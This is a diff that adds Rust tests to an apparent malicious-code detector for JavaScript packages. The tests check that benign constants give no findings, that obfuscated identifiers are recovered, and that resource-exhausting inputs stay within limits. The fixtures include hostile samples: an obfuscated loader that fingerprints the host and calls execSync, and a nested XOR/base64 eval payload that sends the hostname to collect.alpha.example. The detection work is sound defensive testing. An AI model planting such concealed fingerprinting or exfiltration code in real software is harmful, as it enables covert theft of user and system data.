@@ -459,3 +459,271 @@ fn decoders_of_all_shapes_are_evaluated() {
         failures.join("\n\n")
     );
 }
+
+/// What has the marks of decoding and keeps nothing from a reader.
+#[test]
+fn ordinary_constants_give_no_findings() {
+    let png = STANDARD.encode(
+        (0..600u32)
+            .map(|n| u8::try_from(n.wrapping_mul(2_654_435_761) >> 24).unwrap())
+            .collect::<Vec<u8>>(),
+    );
+    let words = STANDARD.encode("red,green,blue,orange,violet,black,white");
+    let wasm = STANDARD.encode([b"\0asm\x01\0\0\0".as_slice(), &[7; 300]].concat());
+    let table = numbers((0..400).map(|n| 0x4e00 + n * 3));
+    for source in [
+        format!("const icon = Buffer.from('{png}', 'base64'); export const url = () => `data:image/png;base64,${{icon.toString('base64')}}`;"),
+        format!("const font = Uint8Array.from(atob('{png}'), (c) => c.charCodeAt(0)); load(font);"),
+        format!("const wide = [{table}]; export const isWide = (c) => wide.map((n) => String.fromCharCode(n)).join('').includes(c);"),
+        format!("const wasm = Buffer.from('{wasm}', 'base64'); export const made = WebAssembly.compile(wasm);"),
+        format!("const colours = atob('{words}').split(','); paint(colours);"),
+        "const vectors = [['abc', 'ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad'], ['', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855']]; for (const [text, hash] of vectors) check(text, Buffer.from(hash, 'hex'));".to_owned(),
+        "const hosts = ['alpha.example', 'beta.example.org', 'mirror.corp.test']; const turned = hosts.map((h) => h.split('').reverse().join('').split('').reverse().join('')); use(turned);".to_owned(),
+        "const hex = [...'0123456789abcdef']; export const show = (b) => hex[b >> 4] + hex[b & 15]; export const crlf = String.fromCharCode(13, 10);".to_owned(),
+        "const crc = Array.from({ length: 256 }, (_, n) => { for (let k = 0; k < 8; k++) n = n & 1 ? 0xedb88320 ^ (n >>> 1) : n >>> 1; return n >>> 0; }); export const sum = (text) => [...text].reduce((c, t) => crc[(c ^ t.charCodeAt(0)) & 255] ^ (c >>> 8), -1);".to_owned(),
+        "const version = '1.2.3'.split('.').reverse().join('-'); console.log(version, decodeURIComponent('%7Bname%7D'));".to_owned(),
+        "class Emitter { on(name) { return name.charCodeAt(0) ^ 1; } } const emitter = new Emitter(); emitter.on('ready'); emitter.on('finished');".to_owned(),
+    ] {
+        let found: Vec<String> = analyze_source("plain.js", &source)
+            .into_iter()
+            .filter(|finding| finding.behaviour.starts_with("conceal."))
+            .map(|finding| format!("{}: {}", finding.behaviour, finding.title))
+            .collect();
+        assert_eq!(found, [""; 0], "{source}");
+    }
+}
+
+/// What is not known here decides, so nothing is a constant.
+#[test]
+fn what_depends_on_the_outside_is_no_constant() {
+    let hidden: String = LIST.join(",").chars().rev().collect();
+    for source in [
+        // The key comes from outside, or might.
+        format!(
+            "const turn = (t) => t.split('').reverse().join(''); export const list = (process.env.A ? turn('{hidden}') : turn('x')).split(',');"
+        ),
+        format!(
+            "const turn = (t) => Math.random() > 2 ? t : t.split('').reverse().join(''); export const list = turn('{hidden}').split(',');"
+        ),
+        format!(
+            "import {{ key }} from './key.js'; const turn = (t, k) => k ? t : t.split('').reverse().join(''); export const list = turn('{hidden}', key).split(',');"
+        ),
+        format!(
+            "const turn = (t) => new Date().getDay() > 9 ? t : t.split('').reverse().join(''); export const list = turn('{hidden}').split(',');"
+        ),
+    ] {
+        let findings = analyze_source("outside.js", &source);
+        let evaluated = findings
+            .iter()
+            .flat_map(|finding| &finding.evidence)
+            .find(|evidence| evidence.note.starts_with("evaluated") && evidence.decoded.len() > 1);
+        assert_eq!(evaluated, None, "{source}");
+    }
+    // A fact about the host stays one, though it could be evaluated.
+    let findings = analyze_source(
+        "fact.js",
+        "const codes = [104, 105]; function zone() { try { return new Intl.DateTimeFormat().resolvedOptions().timeZone } catch { return String.fromCharCode(...codes) } } send(zone());",
+    );
+    assert!(
+        findings
+            .iter()
+            .any(|f| f.behaviour == "fingerprint.timezone"),
+        "{findings:?}"
+    );
+}
+
+#[test]
+fn obfuscated_names_are_names_again() {
+    let table: Vec<String> = [
+        "hostname",
+        "child_process",
+        "execSync",
+        "env",
+        "ALPHA_BASE_URL",
+        "platform",
+        "release",
+        "userInfo",
+        "username",
+        "concat",
+        "length",
+        "https",
+        "request",
+    ]
+    .iter()
+    .map(|name| STANDARD.encode(name))
+    .collect();
+    let source = format!(
+        "var _0x1a2b=function(){{var t={table:?};_0x1a2b=function(){{return t}};return _0x1a2b()}};function _0x3c4d(n){{var t=_0x1a2b();return atob(t[n-0x10])}}var os=require('os');function go(){{var a=os[_0x3c4d(0x10)]();require(_0x3c4d(0x11))[_0x3c4d(0x12)]('id '+a);return process[_0x3c4d(0x13)][_0x3c4d(0x14)]+os[_0x3c4d(0x15)]()+os[_0x3c4d(0x16)]()+os[_0x3c4d(0x17)]()[_0x3c4d(0x18)]+a[_0x3c4d(0x1a)]+_0x3c4d(0x1b)+_0x3c4d(0x1c)}}"
+    );
+    let findings = analyze_source("packed.js", &source);
+    for behaviour in [
+        "fingerprint.hostname",
+        "reach.process",
+        "fingerprint.base-url",
+        "fingerprint.username",
+        "conceal.packed",
+    ] {
+        assert!(
+            findings.iter().any(|f| f.behaviour == behaviour),
+            "{behaviour}: {findings:#?}"
+        );
+    }
+}
+
+#[test]
+fn decoded_code_is_read() {
+    let inmost = "const os = require('os'); const name = os.hostname(); fetch('https://collect.alpha.example/' + name);";
+    let mut code = inmost.to_owned();
+    for level in 0..3 {
+        let key = 40 + level;
+        let coded: Vec<u8> = code.bytes().map(|b| b ^ key).collect();
+        code = format!(
+            "const text = '{}'; const open = (t) => [...atob(t)].map((c) => String.fromCharCode(c.charCodeAt(0) ^ {key})).join(''); eval(open(text));",
+            STANDARD.encode(coded)
+        );
+        let findings = analyze_source("nested.js", &code);
+        let host = findings
+            .iter()
+            .find(|f| f.behaviour == "fingerprint.hostname")
+            .unwrap_or_else(|| panic!("level {level}: {findings:#?}"));
+        assert!(
+            host.evidence[0]
+                .note
+                .starts_with("in a text that is decoded here"),
+            "{host:#?}"
+        );
+        assert!(
+            findings
+                .iter()
+                .any(|f| f.key.contains("collect.alpha.example"))
+        );
+    }
+    // One more is beyond the limit, and that is said.
+    let coded: String = STANDARD.encode(&code);
+    let read = crate::node::read(
+        format!("eval(atob('{coded}'))").as_bytes(),
+        &[],
+        "javascript",
+        "deep.js",
+        false,
+        crate::node::Mode::Best,
+        &mut crate::evaluate::here,
+    );
+    assert_eq!(read.gap, Some(assay_model::Gap::Limit));
+    assert!(read.detail.contains("decoded 3 times"), "{}", read.detail);
+}
+
+fn coverage(source: &str) -> String {
+    crate::node::read(
+        source.as_bytes(),
+        &[],
+        "javascript",
+        "x.js",
+        false,
+        crate::node::Mode::Best,
+        &mut crate::evaluate::here,
+    )
+    .detail
+}
+
+#[test]
+fn hostile_slices_cost_no_more_than_the_limits() {
+    let constant = "9f8e7d6c5b4a39281706f5e4d3c2b1a0";
+    // What takes all steps is named, and what is beside it is still found.
+    let endless = format!(
+        "function spin(t) {{ while (t.charCodeAt(0)) {{}} return t }} export const a = spin('{constant}');"
+    );
+    assert!(
+        coverage(&endless).contains("the limit on steps"),
+        "{}",
+        coverage(&endless)
+    );
+    let deep = format!(
+        "function fall(t) {{ return fall(t + String.fromCharCode(1)) }} export const a = fall('{constant}');"
+    );
+    assert!(
+        coverage(&deep).contains("the limit on nesting"),
+        "{}",
+        coverage(&deep)
+    );
+    let bomb = format!(
+        "function grow(t) {{ for (;;) t += t + t.charCodeAt(0) }} export const a = grow('{constant}');"
+    );
+    let said = coverage(&bomb);
+    assert!(
+        said.contains("limit on memory")
+            || said.contains("invalid string length")
+            || said.is_empty(),
+        "{said}"
+    );
+    let hidden: String = LIST.join(",").chars().rev().collect();
+    let beside = format!(
+        "{endless} const turn = (t) => t.split('').reverse().join(''); export const list = turn('{hidden}').split(',');"
+    );
+    assert!(
+        decoded(&analyze_source("x.js", &beside))
+            .iter()
+            .any(|list| list == LIST)
+    );
+    // A thousand functions that call each other.
+    let mut maze = String::new();
+    for n in 0..1000 {
+        maze.push_str(&format!(
+            "function f{n}(t) {{ return f{}(t) + String.fromCharCode(t.charCodeAt({n}) ^ {}) }}\n",
+            (n * 7 + 1) % 1000,
+            n % 256
+        ));
+    }
+    maze.push_str(&format!("export const a = f0('{constant}');"));
+    let started = std::time::Instant::now();
+    let _ = coverage(&maze);
+    // Megabytes of constants, and as many sites.
+    let big = format!(
+        "const t = '{}'; const d = (n) => String.fromCharCode(t.charCodeAt(n) ^ 3); export const all = [{}];",
+        constant.repeat(60_000),
+        (0..30_000)
+            .map(|n| format!("d({n})"))
+            .collect::<Vec<_>>()
+            .join(",")
+    );
+    assert!(
+        coverage(&big).contains("values beyond the first"),
+        "{}",
+        coverage(&big)
+    );
+    assert!(started.elapsed().as_secs() < 60);
+    // Traps in what is given back, and no end to a promise.
+    for result in [
+        "({ get host() { for (;;) {} }, a: dec(t) })",
+        "new Proxy([dec(t)], { get() { throw dec(t) } })",
+        "(async () => { await new Promise(() => {}); return dec(t) })()",
+        "[].constructor.constructor('return this')()[dec(t)]",
+        "Object.defineProperty([dec(t)], 1, { get() { return dec(t).repeat(1 << 30) }, enumerable: true })",
+        "(() => { debugger; return dec(t) })()",
+    ] {
+        let source = format!(
+            "const t = '{constant}'; const dec = (x) => x.replace(/../g, (h) => String.fromCharCode(parseInt(h, 16))); export const a = {result};"
+        );
+        let _ = coverage(&source);
+    }
+}
+
+#[test]
+fn any_text_is_sliced_to_the_same() {
+    let source = forms(&shapes()[7])[4].1.clone();
+    let show = |source: &str| format!("{:?}", analyze_source("x.js", source));
+    assert_eq!(show(&source), show(&source));
+}
+
+#[test]
+fn types_are_left_out() {
+    let hidden: String = LIST.join(",").chars().rev().collect();
+    let source = format!(
+        "interface Opts {{ key: string }}\nclass Box implements Opts {{ private readonly key: string = ''; static table: number[] = [1, 2]; constructor(public word: string, deep?: number) {{ this.key = word as string; }} public open<T extends string>(text: T, times?: number): string {{ let out!: string; out = (text as unknown as string).split('').reverse().join('')!; return out satisfies string; }} }}\nconst hidden: string = '{hidden}';\nexport const list: readonly string[] = new Box('a').open<string>(hidden).split(',');\n"
+    );
+    let findings = analyze_source("typed.ts", &source);
+    assert!(
+        decoded(&findings).iter().any(|list| list == LIST),
+        "{findings:#?}"
+    );
+}
